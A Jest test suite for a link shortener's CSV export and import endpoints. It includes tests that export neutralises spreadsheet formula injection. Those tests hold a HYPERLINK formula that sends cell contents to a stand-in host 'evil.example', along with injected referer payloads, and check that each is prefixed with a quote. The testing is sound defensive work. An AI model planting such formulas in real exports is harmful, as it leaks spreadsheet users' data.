import { parse } from 'csv-parse/sync';
import { request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { Client } from 'pg';
import { ClickWriter } from '../src/clicks/click-writer';
import { createAccount, createTestApp, type TestAccount, type TestApp } from './support/app';
import { apiClient } from './support/api';
import { clickFixtures } from './support/clicks';
import { onRealPostgres } from './support/test-database';
import { createLink, UA, unique } from './support/visitors';
import { VISIT_FIELD_NAMES } from './support/links';

const LINK_HEADER = [
  'id',
  'alias',
  'short_url',
  'url',
  'title',
  'domain_id',
  'space_id',
  'pixel_ids',
  'targets_type',
  'targets',
  'sensitive_content',
  'privacy',
  'active_period_start_at',
  'active_period_end_at',
  'clicks_limit',
  'expiration_url',
  'disabled',
  'clicks',
  'created_at',
  ...VISIT_FIELD_NAMES,
  'tags',
  'archived',
  'health',
];

type Row = Record<string, string>;

/** What a spreadsheet reads as the start of a formula: OWASP's list, and the full-width forms some read alike. */
const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
const FORMULA = 'HYPERLINK("https://evil.example/?"&A1,"Click")';

function csvRows(text: string): { header: string[]; rows: Row[] } {
  const records = parse(text);
  const [header, ...lines] = records;
  return { header, rows: lines.map((line) => Object.fromEntries(header.map((name, i) => [name, line[i]]))) };
}

describe('CSV export and import', () => {
  let t: TestApp;
  let owner: TestAccount;
  let other: TestAccount;
  const { call, form, text } = apiClient(() => t);
  const { insertClicks } = clickFixtures(() => t);

  beforeAll(async () => {
    t = await createTestApp();
    owner = await createAccount(t);
    other = await createAccount(t);
  });
  afterAll(async () => {
    await t?.close();
  });

  const csv = text;

  describe('GET /api/v1/links/export', () => {
    it('writes every link as the API shows it, one row each, in the list’s order', async () => {
      const space = await form(owner, 'post', '/api/v1/spaces', { name: 'Export' });
      const pixel = await form(owner, 'post', '/api/v1/pixels', {
        name: 'Pixel',
        type: 'facebook',
        value: '123456789012345',
      });
      const tag = unique('tag');
      const first = await createLink(t, owner, {
        url: 'https://example.com/a,b',
        title: `${tag} "quoted", with comma`,
        space_id: space.body.data.id as number,
        pixel_ids: [pixel.body.data.id as number],
        targets_type: 'countries',
        targets: [{ key: 'US', value: 'https://example.com/us' }],
        active_period_start_at: '2030-01-01 00:00',
        active_period_end_at: '2030-02-01 00:00',
        clicks_limit: '5',
        expiration_url: 'https://example.com/over',
      });
      const second = await createLink(t, owner, { url: 'https://example.com/second', title: `${tag} two` });
      const response = await csv(owner, `/api/v1/links/export?search=${tag}&sort_by=id&sort=asc`);
      expect(response.status).toBe(200);
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(response.headers['content-disposition']).toBe('attachment; filename="links.csv"');
      const { header, rows } = csvRows(response.body as string);
      expect(header).toEqual(LINK_HEADER);
      expect(rows.map((row) => row.id)).toEqual([String(first.id), String(second.id)]);
      const shown = (await call(owner, 'get', `/api/v1/links/${first.id}`)).body.data as Record<
        string,
        unknown
      >;
      expect(rows[0]).toEqual({
        id: String(first.id),
        alias: shown.alias,
        short_url: shown.short_url,
        url: 'https://example.com/a,b',
        title: `${tag} "quoted", with comma`,
        domain_id: String((shown.domain as { id: number }).id),
        space_id: String(space.body.data.id),
        pixel_ids: String(pixel.body.data.id),
        targets_type: 'countries',
        targets: '[{"key":"US","value":"https://example.com/us"}]',
        sensitive_content: '0',
        privacy: '0',
        active_period_start_at: '2030-01-01T00:00:00.000000Z',
        active_period_end_at: '2030-02-01T00:00:00.000000Z',
        clicks_limit: '5',
        expiration_url: 'https://example.com/over',
        disabled: '0',
        clicks: '0',
        created_at: shown.created_at,
        ...Object.fromEntries(
          LINK_HEADER.slice(LINK_HEADER.indexOf('utm_source'), LINK_HEADER.indexOf('tags')).map((name) => [
            name,
            '',
          ]),
        ),
        tags: '',
        archived: '0',
        // Links' targets are not checked in tests.
        health: 'unknown',
      });
    });

    it('applies every list filter: here status=3 (disabled) and a space', async () => {
      const space = await form(owner, 'post', '/api/v1/spaces', { name: 'Filtered' });
      const spaceId = space.body.data.id as number;
      const off = await createLink(t, owner, {
        url: 'https://example.com/off',
        disabled: '1',
        space_id: spaceId,
      });
      await createLink(t, owner, { url: 'https://example.com/on', space_id: spaceId });
      const response = await csv(owner, `/api/v1/links/export?status=3&space_id=${spaceId}`);
      expect(csvRows(response.body as string).rows.map((row) => row.id)).toEqual([String(off.id)]);
    });

    it('shows another account nothing of this one, and answers a header alone when nothing matches', async () => {
      const response = await csv(other, '/api/v1/links/export');
      expect(response.status).toBe(200);
      expect(csvRows(response.body as string)).toEqual({ header: LINK_HEADER, rows: [] });
    });

    it('writes a title that a spreadsheet would read as a formula after a quote, in a quoted cell', async () => {
      const tag = unique('formula');
      const sent = await createLink(t, owner, { url: 'https://example.com/f', title: `=${FORMULA} ${tag}` });
      // Fetched titles are stored as the target page gives them: every first character a page can choose.
      const fetched: { id: number; title: string }[] = [];
      for (const start of FORMULA_STARTS) {
        const link = await createLink(t, owner, { url: 'https://example.com/g', title: tag });
        const title = `${start}${FORMULA} ${tag}`;
        await t.dataSource.query('UPDATE links SET title = $2 WHERE id = $1', [link.id, title]);
        fetched.push({ id: link.id, title });
      }
      const response = await csv(owner, `/api/v1/links/export?search=${tag}&sort_by=id&sort=asc`);
      expect(response.status).toBe(200);
      const text = response.body as string;
      expect(text).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Click"") ${tag}",`);
      const { rows } = csvRows(text);
      expect(rows.map((row) => [row.id, row.title, row.clicks])).toEqual([
        [String(sent.id), `'=${FORMULA} ${tag}`, '0'],
        ...fetched.map((link) => [String(link.id), `'${link.title}`, '0']),
      ]);
    });

    it('refuses a bad filter with a 422 naming it', async () => {
      const response = await call(owner, 'get', '/api/v1/links/export?status=9');
      expect(response.status).toBe(422);
      expect(Object.keys((response.body as { message: object }).message)).toEqual(['status']);
    });
  });

  describe('POST /api/v1/links/import', () => {
    it('takes an export back: the deleted links come back as they were', async () => {
      const tag = unique('roundtrip');
      const made = [
        await createLink(t, owner, {
          url: 'https://example.com/r1',
          title: `${tag} one`,
          targets_type: 'rotations',
          targets: [{ value: 'https://example.com/x' }, { value: 'https://example.com/y' }],
          sensitive_content: '1',
        }),
        await createLink(t, owner, { url: 'https://example.com/r2', title: `${tag} two`, disabled: '1' }),
      ];
      const exported = (await csv(owner, `/api/v1/links/export?search=${tag}&sort_by=id&sort=asc`))
        .body as string;
      for (const link of made) await call(owner, 'delete', `/api/v1/links/${link.id}`);

      const response = await call(owner, 'post', '/api/v1/links/import').type('text/csv').send(exported);
      expect(response.status).toBe(201);
      const created = response.body.data as Record<string, unknown>[];
      const fields = (link: Record<string, unknown>) => ({
        alias: link.alias,
        url: link.url,
        title: link.title,
        targets_type: link.targets_type,
        targets: link.targets,
        sensitive_content: link.sensitive_content,
        disabled: link.disabled,
      });
      expect(created.map(fields)).toEqual(
        made.map((link) => fields(link as unknown as Record<string, unknown>)),
      );
    });

    it('takes back titles and aliases that export wrote after a quote, as they were', async () => {
      const tag = unique('formula-trip');
      const made: Record<string, unknown>[] = [];
      // The API trims titles: a tab or carriage return never starts one it stores.
      for (const [i, start] of FORMULA_STARTS.filter((start) => start.trim() !== '').entries()) {
        made.push(
          (await createLink(t, owner, {
            alias: `${start === '-' ? '-' : ''}${unique(`trip${i}`)}`,
            url: `https://example.com/trip${i}`,
            title: `${start}${FORMULA} ${tag}`,
          })) as unknown as Record<string, unknown>,
        );
      }
      const exported = (await csv(owner, `/api/v1/links/export?search=${tag}&sort_by=id&sort=asc`))
        .body as string;
      expect(csvRows(exported).rows.map((row) => row.title)).toEqual(
        made.map((link) => `'${String(link.title)}`),
      );
      for (const link of made) await call(owner, 'delete', `/api/v1/links/${String(link.id)}`);

      const response = await call(owner, 'post', '/api/v1/links/import').type('text/csv').send(exported);
      expect(response.status).toBe(201);
      const fields = (link: Record<string, unknown>) => [link.alias, link.url, link.title];
      expect((response.body.data as Record<string, unknown>[]).map(fields)).toEqual(made.map(fields));
    });

    it('reads a quote before a formula character as the cell’s neutralisation, and any other quote as text', async () => {
      const tag = unique('quoted');
      const file = `url,title\nhttps://example.com/q1,"'=1+1 ${tag}"\nhttps://example.com/q2,'quoted ${tag}\n`;
      const response = await call(owner, 'post', '/api/v1/links/import').type('text/csv').send(file);
      expect(response.status).toBe(201);
      expect((response.body.data as { title: string }[]).map((link) => link.title)).toEqual([
        `=1+1 ${tag}`,
        `'quoted ${tag}`,
      ]);
    });

    it('reads the exports of Bitly and Dub by their header rows, the links landing on the default domain', async () => {
      const tag = unique('shortener');
      const [custom, made, other, dubbed] = [
        unique('custom'),
        unique('made'),
        unique('other'),
        unique('dubbed'),
      ];
      const bitly =
        'Title,Link,Custom Link,Destination URL,Tags,Date Created,Engagements\n' +
        `"Spring sale, ${tag}",https://bit.ly/${made},https://go.example.com/${custom},` +
        'https://shop.example.com/sale?a=1,"promo, spring",2024-03-01 10:00:00,12\n' +
        `Docs ${tag},https://bit.ly/${other},,"https://docs.example.com/a,b",,2024-03-02 11:00:00,0\n`;
      const dub =
        'Short link,Destination URL,Clicks,Created at,Tags\n' +
        `https://dub.sh/${dubbed},"https://dub.example.com/a,b",3,2024-03-03T12:00:00.000Z,"x, y"\n`;
      const shown = async (file: string) => {
        const response = await call(owner, 'post', '/api/v1/links/import').type('text/csv').send(file);
        expect(response.status).toBe(201);
        const links: Record<string, unknown>[] = [];
        for (const { id } of response.body.data as { id: number }[]) {
          links.push((await call(owner, 'get', `/api/v1/links/${id}`)).body.data as Record<string, unknown>);
        }
        return links;
      };
      const fields = (link: Record<string, unknown>) => ({
        url: link.url,
        alias: link.alias,
        title: link.title,
      });

      const fromBitly = await shown(bitly);
      expect(fromBitly.map(fields)).toEqual([
        { url: 'https://shop.example.com/sale?a=1', alias: custom, title: `Spring sale, ${tag}` },
        // Without a custom back-half, the link keeps the one Bitly made.
        { url: 'https://docs.example.com/a,b', alias: other, title: `Docs ${tag}` },
      ]);
      const fromDub = await shown(dub);
      // Dub's export has no title column: the title is the create's to fetch from the page, in the background.
      expect(fromDub.map((link) => [link.url, link.alias])).toEqual([
        ['https://dub.example.com/a,b', dubbed],
      ]);

      const plain = await createLink(t, owner, { url: 'https://example.com/plain' });
      const domain = (link: Record<string, unknown>) => (link.domain as { id: number }).id;
      const home = domain(
        (await call(owner, 'get', `/api/v1/links/${plain.id}`)).body.data as Record<string, unknown>,
      );
      expect([...fromBitly, ...fromDub].map(domain)).toEqual([home, home, home]);
    });

    it('refuses the whole file when a row is invalid, naming every bad row by its line in the file', async () => {
      const before = (await call(owner, 'get', '/api/v1/links')).body.meta.total as number;
      // The header is line 1; an empty line and a title over two lines move the rows after them down.
      const file =
        'url,title\nhttps://example.com/fine,Fine\nnot a url,Bad\n\nhttps://example.com/ok,"two\nlines"\n' +
        'also bad,Worse\n';
      const response = await call(owner, 'post', '/api/v1/links/import').type('text/csv').send(file);
      expect(response.status).toBe(422);
      expect(response.body).toEqual({
        message: {
          'line.3.url': ['The url field must be a valid URL.'],
          'line.7.url': ['The url field must be a valid URL.'],
        },
        status: 422,
      });
      expect((await call(owner, 'get', '/api/v1/links')).body.meta.total).toBe(before);
    });

    it('names every row whose alias is taken, in the file or before it, and makes none', async () => {
      const before = (await call(owner, 'get', '/api/v1/links')).body.meta.total as number;
      const [taken, twice] = [unique('taken'), unique('twice')];
      await createLink(t, owner, { url: 'https://example.com/first', alias: taken });
      const file =
        `url,alias\nhttps://example.com/a,${taken}\nhttps://example.com/b,${twice}\n` +
        `https://example.com/c,${unique('free')}\nhttps://example.com/d,${twice}\n`;
      const response = await call(owner, 'post', '/api/v1/links/import').type('text/csv').send(file);
      expect(response.status).toBe(422);
      expect(response.body).toEqual({
        message: {
          'line.2.alias': ['The alias has already been taken.'],
          'line.5.alias': ['The alias has already been taken.'],
        },
        status: 422,
      });
      expect((await call(owner, 'get', '/api/v1/links')).body.meta.total).toBe(before + 1);
    });

    it.each([
      ['a file without a url column', 'title\nNo url\n', 'The file must have a url column.'],
      ['no body at all', null, 'The file must be sent as a text/csv body.'],
    ])('refuses %s with a 422 on file', async (_case, file, message) => {
      const request = call(owner, 'post', '/api/v1/links/import');
      const response = await (file === null ? request : request.type('text/csv').send(file));
      expect(response.status).toBe(422);
      expect(response.body).toEqual({ message: { file: [message] }, status: 422 });
    });

    it('refuses a JSON body with 415, a type it does not read', async () => {
      const before = (await call(owner, 'get', '/api/v1/links')).body.meta.total as number;
      const response = await call(owner, 'post', '/api/v1/links/import').send({ url: 'https://example.com' });
      expect(response.status).toBe(415);
      expect(response.body).toEqual({ message: 'Unsupported media type.', status: 415 });
      expect((await call(owner, 'get', '/api/v1/links')).body.meta.total).toBe(before);
    });

    it('refuses more than 1,000 rows', async () => {
      const file = `url\n${Array.from({ length: 1001 }, (_, i) => `https://example.com/${i}`).join('\n')}\n`;
      const response = await call(owner, 'post', '/api/v1/links/import').type('text/csv').send(file);
      expect(response.status).toBe(422);
      expect(response.body).toEqual({
        message: { links: ['The links field must have between 1 and 1000 items.'] },
        status: 422,
      });
    });

    it.each([
      ['utf-8', 201],
      ['us-ascii', 201],
      ['iso-8859-1', 415],
    ])('reads a file sent with charset=%s: %s', async (charset, status) => {
      const response = await call(owner, 'post', '/api/v1/links/import')
        .set('Content-Type', `text/csv; charset=${charset}`)
        .send(`url,title\nhttps://example.com/charset,${charset}\n`);
      expect(response.status).toBe(status);
      if (status === 415) expect(response.body).toEqual({ message: 'Unsupported media type.', status: 415 });
    });

    describe('a file larger than 1,000 links need', () => {
      const importing = (file: string) =>
        call(owner, 'post', '/api/v1/links/import').type('text/csv').send(file);
      const rows = (count: number, row: (index: number) => string) =>
        Array.from({ length: count }, (_, index) => row(index)).join('\n');

      it('stops reading at the 1,001st row: what follows is never parsed', async () => {
        const file = `url\n${rows(1001, (i) => `https://example.com/${i}`)}\n"never closed\n${rows(200_000, () => 'x')}\n`;
        const response = await importing(file);
        expect(response.status).toBe(422);
        expect(response.body).toEqual({
          message: { links: ['The links field must have between 1 and 1000 items.'] },
          status: 422,
        });
      });

      it('refuses a header of more than 100 columns', async () => {
        const header = ['url', ...Array.from({ length: 100 }, (_, i) => `extra_${i}`)];
        const file = `${header.join(',')}\nhttps://example.com/${','.repeat(100)}\n`;
        const response = await importing(file);
        expect(response.status).toBe(422);
        expect(response.body).toEqual({
          message: { file: ['The file must not have more than 100 columns.'] },
          status: 422,
        });
      });

      it('refuses targets cells of more than 50,000 values in all with a 413', async () => {
        const targets = `"[${Array.from({ length: 60 }, () => '{}').join(',')}]"`;
        const file = `url,targets_type,targets\n${rows(1000, (i) => `https://example.com/${i},rotations,${targets}`)}\n`;
        const response = await importing(file);
        expect(response.status).toBe(413);
        expect(response.body).toEqual({ message: 'Payload too large.', status: 413 });
      });

      it('refuses more than 100 passwords, naming the line of the first past them', async () => {
        const file = `url,redirect_password\n${rows(101, (i) => `https://example.com/${i},secret${i}`)}\n`;
        const response = await importing(file);
        expect(response.status).toBe(422);
        expect(response.body).toEqual({
          message: {
            'line.102.redirect_password': ['No more than 100 passwords can be set in one request.'],
          },
          status: 422,
        });
      });

      it('refuses a file over 2 MB with the contract’s 413', async () => {
        const response = await importing(`url,title\nhttps://example.com/,${'x'.repeat(2_100_000)}\n`);
        expect(response.status).toBe(413);
        expect(response.body).toEqual({ message: 'Payload too large.', status: 413 });
      });
    });
  });

  describe('GET /api/v1/stats/{link_id}/export', () => {
    it('writes every click of the link, oldest first, with what was recorded of each', async () => {
      const link = await createLink(t, owner, { url: 'https://example.com/clicked' });
      for (const agent of [UA.windowsChrome, UA.iPhoneSafari, UA.linuxFirefox]) {
        await t
          .http()
          .get(`/${link.alias}`)
          .set('User-Agent', agent)
          .set('Referer', 'https://news.example.org/a');
      }
      await t.app.get(ClickWriter).settle();
      const response = await csv(owner, `/api/v1/stats/${link.id}/export`);
      expect(response.status).toBe(200);
      expect(response.headers['content-disposition']).toBe(`attachment; filename="clicks-${link.id}.csv"`);
      const { header, rows } = csvRows(response.body as string);
      expect(header).toEqual([
        'created_at',
        'referrer',
        'country',
        'city',
        'continent',
        'browser',
        'operating_system',
        'device',
        'language',
      ]);
      expect(rows.map((row) => [row.browser, row.operating_system, row.device, row.referrer])).toEqual([
        ['Chrome', 'Windows', 'Desktop', 'news.example.org'],
        ['Safari', 'iOS', 'Mobile', 'news.example.org'],
        ['Firefox', 'Linux', 'Desktop', 'news.example.org'],
      ]);
      const times = rows.map((row) => row.created_at);
      expect([...times].sort()).toEqual(times);
    });

    it('writes a referrer that a spreadsheet would read as a formula after a quote, in a quoted cell', async () => {
      const link = await createLink(t, owner, { url: 'https://example.com/referred' });
      // A referrer's host may hold = + - ( ) " , and full-width forms (here percent-encoded) that the URL parser
      // turns into them.
      const referers = [
        'http://=HYPERLINK("evil.example","Click")/',
        'http://+1+2/',
        'http://-1+cmd/',
        'http://%EF%BC%9D1+1/',
      ];
      for (const referer of referers) {
        await t.http().get(`/${link.alias}`).set('User-Agent', UA.windowsChrome).set('Referer', referer);
      }
      await t.app.get(ClickWriter).settle();
      const response = await csv(owner, `/api/v1/stats/${link.id}/export`);
      expect(response.status).toBe(200);
      const text = response.body as string;
      expect(text).toContain(`,"'=hyperlink(""evil.example"",""click"")",`);
      expect(csvRows(text).rows.map((row) => [row.referrer, row.browser])).toEqual([
        [`'=hyperlink("evil.example","click")`, 'Chrome'],
        [`'+1+2`, 'Chrome'],
        [`'-1+cmd`, 'Chrome'],
        [`'=1+1`, 'Chrome'],
      ]);
    });

    it('writes every recorded text of a click that starts with a formula character after a quote', async () => {
      const link = await createLink(t, owner, { url: 'https://example.com/recorded' });
      await insertClicks(
        link.id,
        FORMULA_STARTS.map((start, i) => ({
          created_at: new Date(Date.UTC(2026, 0, 1, 0, 0, i)).toISOString(),
          referrer: `${start}${FORMULA}`,
          country: `${start}1`,
          city: `${start}city`,
          continent: `${start}2`,
          browser: `${start}browser`,
          operating_system: `${start}os`,
          device: `${start}device`,
          language: `${start}3`,
        })),
      );
      const { rows } = csvRows((await csv(owner, `/api/v1/stats/${link.id}/export`)).body as string);
      expect(rows).toEqual(
        FORMULA_STARTS.map((start, i) => ({
          created_at: `2026-01-01T00:00:0${i}.000000Z`,
          referrer: `'${start}${FORMULA}`,
          country: `'${start}1`,
          city: `'${start}city`,
          continent: `'${start}2`,
          browser: `'${start}browser`,
          operating_system: `'${start}os`,
          device: `'${start}device`,
          language: `'${start}3`,
        })),
      );
    });

    it('is a 404 for another account’s link', async () => {
      const link = await createLink(t, owner, { url: 'https://example.com/mine' });
      const response = await call(other, 'get', `/api/v1/stats/${link.id}/export`);
      expect(response.status).toBe(404);
      expect(response.body).toEqual({ message: 'Resource not found.', status: 404 });
    });
  });

  // Seeding 200,000 rows takes the embedded database minutes: a PostgreSQL server's run proves it.
  (onRealPostgres() ? describe : describe.skip)('an export of 200,000 clicks', () => {
    it('streams from a cursor: the service’s memory stays flat while the file is sent', async () => {
      const account = await createAccount(t);
      const link = await createLink(t, account, { url: 'https://example.com/popular' });
      // Past the service's statement timeout: on a connection of the test's own.
      const seeder = new Client({ connectionString: process.env.DATABASE_URL });
      await seeder.connect();
      try {
        // Set-based, with one profile: a row at a time through the view's trigger would take minutes.
        await seeder.query(
          `WITH profile AS (
             SELECT click_profile_id('news.example.org', 'DE', NULL, 'EU', 'Firefox', 'Linux', 'Desktop', 'de') AS id)
           INSERT INTO click_events (created_at, link_id, profile_id)
           SELECT now() - n * interval '1 second', $1, profile.id FROM generate_series(1, 200000) AS n, profile`,
          [link.id],
        );
      } finally {
        await seeder.end();
      }
      const path = `/api/v1/stats/${link.id}/export`;
      const server = t.app.getHttpServer() as import('node:http').Server;
      if (!server.listening) await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      const { port } = server.address() as AddressInfo;

      // Live memory, not garbage waiting for a collection: each sample collects first.
      setFlagsFromString('--expose-gc');
      const gc = runInNewContext('gc') as () => void;
      const live = () => {
        gc();
        return process.memoryUsage().heapUsed;
      };
      const baseline = live();
      let peak = baseline;
      const sampler = setInterval(() => (peak = Math.max(peak, live())), 250);
      const { lines, bytes } = await new Promise<{ lines: number; bytes: number }>((resolve, reject) => {
        const request = httpRequest(
          { port, host: '127.0.0.1', path, headers: { Authorization: account.auth } },
          (response) => {
            let count = 0;
            let size = 0;
            response.on('data', (chunk: Buffer) => {
              size += chunk.length;
              for (const byte of chunk) if (byte === 10) count += 1;
            });
            response.on('end', () => resolve({ lines: count, bytes: size }));
            response.on('error', reject);
          },
        );
        request.on('error', reject);
        request.end();
      });
      clearInterval(sampler);
      expect(lines).toBe(200_001);
      // The file is over 15 MB; held whole, as rows or as text, it would take more than that.
      expect(bytes).toBeGreaterThan(15_000_000);
      const growthMb = (peak - baseline) / 1024 / 1024;
      process.stdout.write(
        `export of 200,000 clicks (${(bytes / 1e6).toFixed(1)} MB): heap grew at most ${growthMb.toFixed(1)} MB\n`,
      );
      expect(growthMb).toBeLessThan(16);
      // Most of its time is the full collections before each sample: 94-103 s alone on a busy 2-core machine, so
      // the 120 s it had were passed when other suites ran beside it. Its assertion is memory, not time.
    }, 300_000);
  });
});
